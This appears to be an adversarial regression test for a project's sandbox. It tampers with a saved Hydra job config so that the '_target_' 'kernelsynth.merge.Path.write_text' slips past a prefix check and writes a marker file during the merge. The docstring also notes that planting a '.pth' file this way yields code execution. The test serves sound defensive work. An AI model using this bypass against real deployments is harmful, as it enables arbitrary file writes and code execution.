"""Attack (not a candidate: a tampered job directory): get past the fix of sandbox_s7
``merge_tamper`` part 2 with a ``_target_`` that starts with ``kernelsynth.``.

The fix (``merge.foreign_targets``) refused every ``_target_`` of a job's ``selection`` and
``synthesis`` that does not start with ``kernelsynth.``. Hydra's ``_locate`` resolves a dotted
path by importing the longest module prefix and then taking attributes, so
``kernelsynth.merge.Path`` is ``pathlib.Path`` (merge.py imports it) and
``kernelsynth.merge.Path.write_text`` is the function the s7 attack used: the prefix check passes
and ``instantiate`` writes any file the merging user can (a ``.pth`` in site-packages is code at
the next Python start). Any module's imports serve (``kernelsynth.<module>.os``, ``.json``, ...).

This script makes a real run (hw=cpu, sandbox on, the honest flip), saves its config as Hydra
does, puts the target in it and merges.

Success (GOT THROUGH): ``/tmp/sb8-merge-pwned`` is written by the merge. Contained: the merge
raises UserError naming the target and the file does not exist.

    PYTHONPATH=$PWD python3 tests/adversarial/sandbox_s8/merge_prefix.py
"""
import os
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
sys.path.insert(0, str(HERE))

from omegaconf import OmegaConf  # noqa: E402
from run_attack import compose  # noqa: E402  (the conf/ of the kernelsynth imported)

from kernelsynth import engine, merge  # noqa: E402

PWNED = Path("/tmp/sb8-merge-pwned")


def main():
    pid = os.getpid()
    work, sweep = Path(f"/srv/sb8-merge-work-{pid}"), Path(f"/tmp/sb8-merge-sweep-{pid}")
    job = sweep / "0"
    work.mkdir(mode=0o755)
    ref = ROOT / "specs" / "flip2d" / "reference.py"
    honest = ROOT / "tests" / "adversarial" / "cpu" / "honest" / "index.py"
    (work / "spec.yaml").write_text(
        f"name: sandbox_flip\ncategory: test_fixture\nreference: {ref}\ndims: [M, N]\n"
        "shapes:\n  verify: [[3, 5], [4, 67]]\ndtypes: [float32]\ncomparison: exact\n"
        "work: {bytes: \"2 * M * N * itemsize\"}\nbaselines: []\nreference_ops: [flip]\ncandidates:\n"
        f"  - {{version: v0, name: honest, file: {honest}, technique: index, rationale: honest}}\n")
    over = ["hw=cpu", "exploration.trials=1", "exploration.progress=false", "exploration.sandbox.mode=on",
            "exploration.screen_sources=false", f"task.spec={work / 'spec.yaml'}", f"cache_dir={work / 'cache'}"]
    cfg = compose(over)
    engine.run(cfg, job, publish=False)
    (job / ".hydra").mkdir(exist_ok=True)
    PWNED.unlink(missing_ok=True)
    OmegaConf.save(cfg, job / ".hydra" / "config.yaml")  # what Hydra writes for a job
    cfg = OmegaConf.load(job / ".hydra" / "config.yaml")  # as the merge reads it back (no schema)
    cfg.selection = {"_target_": "kernelsynth.merge.Path.write_text",
                     "_args_": [{"_target_": "kernelsynth.merge.Path", "_args_": [str(PWNED)]},
                                "written by kernelsynth.merge through kernelsynth.merge.Path\n"]}
    OmegaConf.save(cfg, job / ".hydra" / "config.yaml")
    try:
        merge.merge([sweep])
        print("merge returned")
    except BaseException as e:  # noqa: BLE001 - write_text returns an int: the merge fails after it
        print(f"merge raised: {type(e).__name__}: {str(e)[:300]}")
    print(f"{PWNED}: " + (repr(PWNED.read_text()) if PWNED.is_file() else "not written"))
    PWNED.unlink(missing_ok=True)
    shutil.rmtree(work, ignore_errors=True)
    shutil.rmtree(sweep, ignore_errors=True)


if __name__ == "__main__":
    main()
